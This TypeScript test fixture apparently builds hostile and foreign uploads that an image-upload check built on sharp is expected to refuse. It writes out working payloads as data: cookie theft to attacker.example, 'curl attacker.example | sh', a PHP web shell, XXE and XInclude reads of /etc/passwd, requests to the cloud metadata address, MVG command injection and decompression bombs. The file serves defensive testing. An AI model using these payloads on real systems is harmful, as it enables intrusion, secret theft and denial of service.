import { deflateSync } from 'node:zlib';
import { plain } from '../sample-pictures.ts';
import { type HostileUpload, latin1, PLANTED } from './hostile-upload.ts';

/** Files of other kinds, some of which sharp could open if it were let. */
export async function foreignFiles(): Promise<HostileUpload[]> {
  const [gif, tiff, avif] = await Promise.all(
    (['gif', 'tiff', 'avif'] as const).map((format) => plain(300, 400).toFormat(format).toBuffer()),
  );
  const all: [name: string, bytes: Uint8Array | undefined, bomb?: true][] = [
    ...svgs,
    ...documents,
    ['GIF', gif],
    ['TIFF', tiff],
    ['AVIF', avif],
    ['GIF of 65535 × 65535', latin1('GIF89a\xff\xff\xff\xff\x80\0\0'), true],
    ['BigTIFF', latin1('II\x2b\0\x08\0\0\0\x10\0\0\0\0\0\0\0')],
    ['TIFF with a directory that points to itself', selfReferringTiff()],
    ['HEIC', fileTypeBox('heic', 'mif1heic')],
    ['HEIC sequence', fileTypeBox('hevc', 'msf1hevc')],
    ['HEIF that names no codec', fileTypeBox('mif1', 'mif1miaf')],
    ['AVIF that hides behind mif1', fileTypeBox('mif1', 'mif1avif')],
    ['MP4', fileTypeBox('isom', 'isomiso2avc1mp41')],
    ['CR3 raw', fileTypeBox('crx ', 'crx isom')],
    ['BMP', bmp(300, 400)],
    ['BMP of two thousand million pixels', bmp(2_147_483_647, 1), true],
    ['BMP with a negative height', bmp(300, -400)],
    ['ICO', latin1('\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0')],
    ['CUR', latin1('\0\0\x02\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0')],
    ['PSD', latin1('8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\x01\x90\0\0\x01\x2c\0\x08\0\x03')],
    [
      'PSD of 300000 × 300000',
      latin1('8BPS\0\x02\0\0\0\0\0\0\0\x03\0\x04\x93\xe0\0\x04\x93\xe0'),
      true,
    ],
    ['JPEG XL', latin1('\xff\x0a\xfa\x1f\x41\x92')],
    ['JPEG XL in a box', latin1('\0\0\0\x0cJXL \x0d\x0a\x87\x0a')],
    ['JPEG 2000', latin1('\0\0\0\x0cjP  \x0d\x0a\x87\x0a')],
    ['JPEG 2000 codestream', latin1('\xff\x4f\xff\x51\0\x29')],
    ['PNM', latin1('P6\n300 400\n255\n')],
    ['PFM', latin1('PF\n300 400\n-1.0\n')],
    ['Radiance HDR', latin1('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 400 +X 300\n')],
    ['OpenEXR', latin1('\x76\x2f\x31\x01\x02\0\0\0')],
    ['FITS', latin1('SIMPLE  =                    T')],
    ['DICOM', Buffer.concat([Buffer.alloc(128), latin1('DICM')])],
    ['DDS', latin1('DDS \x7c\0\0\0')],
    ['WMF', latin1('\xd7\xcd\xc6\x9a\0\0')],
    ['EMF', latin1('\x01\0\0\0\x6c\0\0\0')],
    ['XCF', latin1('gimp xcf v011\0')],
    [
      'TGA',
      Buffer.concat([
        latin1('\0\0\x02\0\0\0\0\0\0\0\0\0\x2c\x01\x90\x01\x18\0'),
        Buffer.alloc(999),
      ]),
    ],
    ['libvips’s own format', latin1('\xb6\xa6\xf2\x08\x2c\x01\0\0\x90\x01\0\0')],
    ['MATLAB file', latin1('MATLAB 5.0 MAT-file')],
    ['NIfTI', Buffer.concat([latin1('\x5c\x01\0\0'), Buffer.alloc(344)])],
  ];
  return all.map(([name, bytes = Buffer.alloc(0), bomb]) => ({
    name,
    bytes,
    fate: 'refused',
    ...(bomb ? { bomb } : {}),
  }));
}

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inside: string, before = '', size = 'width="400" height="400"') =>
  latin1(`${before}${SVG} ${size}>${inside}</svg>`);

const svgs: [string, Uint8Array, true?][] = [
  ['SVG', svg('<rect width="400" height="400"/>')],
  ['SVG with a script', svg('<script>fetch("//attacker.example/"+document.cookie)</script>')],
  ['SVG with an event', svg('<image href="x" onerror="alert(1)"/>')],
  [
    'SVG with a foreign object',
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
  ],
  ['SVG that shows a file', svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>')],
  [
    'SVG that shows an address',
    svg('<image xlink:href="http://169.254.169.254/" width="9" height="9"/>'),
  ],
  [
    'SVG with an external entity',
    svg(
      '<text>&e;</text>',
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    ),
  ],
  [
    'SVG with a parameter entity',
    svg(
      '',
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % e SYSTEM "http://169.254.169.254/x.dtd"> %e;]>',
    ),
  ],
  [
    'SVG with an inclusion',
    svg(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
  ],
  [
    'SVG with a style sheet',
    svg('', '<?xml version="1.0"?><?xml-stylesheet href="http://169.254.169.254/x.css"?>'),
  ],
  [
    'SVG with a billion laughs',
    svg(
      '<text>&l9;</text>',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')}]>`,
    ),
    true,
  ],
  [
    'SVG of a thousand million pixels a side',
    svg('<rect/>', '', 'width="1000000000" height="1000000000"'),
    true,
  ],
  ['SVG that uses itself', svg('<g id="a"><use href="#a"/></g>'), true],
  ['SVG behind a byte order mark', svg('', '\xef\xbb\xbf')],
  ['SVG behind a comment', svg('', `<!-- ${'photo '.repeat(200)} -->`)],
  ['SVG in UTF-16', Buffer.from(`\ufeff${svg('').toString('latin1')}`, 'utf16le')],
  ['SVG in a gzip', latin1('\x1f\x8b\x08\0\0\0\0\0\0\x03')],
];

const documents: [string, Uint8Array, true?][] = [
  [
    'PDF',
    latin1('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  ],
  ['PostScript', latin1('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file')],
  ['EPS for DOS', latin1('\xc5\xd0\xd3\xc6\x20\0\0\0')],
  [
    'MVG that reads a file',
    latin1("push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context"),
  ],
  [
    'MVG that runs a program',
    latin1(
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://x.example/x.jpg"|id")\'\npop graphic-context',
    ),
  ],
  [
    'MSL',
    latin1(
      '<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/x.php"/></image>',
    ),
  ],
  [
    'playlist of ffmpeg',
    latin1('#EXTM3U\n#EXT-X-TARGETDURATION:1\nconcat:http://169.254.169.254/|file:///etc/passwd'),
  ],
  ['HTML', latin1('<!doctype html><script>alert(1)</script>')],
  [
    'XML',
    latin1('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'),
  ],
  ['program of PHP', latin1('<?php system($_GET["c"]); ?>')],
  ['shell script', latin1('#!/bin/sh\ncurl attacker.example | sh\n')],
  ['ELF', latin1('\x7fELF\x02\x01\x01')],
  ['EXE', latin1('MZ\x90\0\x03')],
  ['ZIP', latin1('PK\x03\x04\x14\0\0\0\x08\0')],
  [
    'ZIP that is called image.jpg inside',
    latin1('PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x09\0\0\0image.jpg'),
  ],
  ['deflate of 50 MB', deflateSync(Buffer.alloc(50_000_000)), true],
  ['JSON', latin1('{"picture":"data:image/jpeg;base64,/9j/"}')],
  ['data URL', latin1('data:image/jpeg;base64,/9j/4AAQSkZJRg==')],
  ['words', latin1(`only words, ${PLANTED}`)],
  ['nothing', new Uint8Array()],
  ['one zero', new Uint8Array([0])],
  ['one 0xff', new Uint8Array([0xff])],
  ['zeros', new Uint8Array(100_000)],
  ['0xff only', new Uint8Array(100_000).fill(0xff)],
  ['more than may be sent', new Uint8Array(20 * 1024 * 1024 + 1), true],
];

function fileTypeBox(brand: string, compatible: string): Buffer {
  const box = latin1(`\0\0\0\0ftyp${brand}\0\0\0\0${compatible}`);
  box.writeUInt32BE(box.length, 0);
  return Buffer.concat([box, latin1('\0\0\0\x08mdat'), Buffer.alloc(64)]);
}

function bmp(width: number, height: number): Buffer {
  const header = Buffer.alloc(54);
  header.write('BM', 'latin1');
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  return header;
}

function selfReferringTiff(): Buffer {
  const bytes = Buffer.from('49492a0008000000010000010300010000002c01000008000000', 'hex');
  return bytes;
}
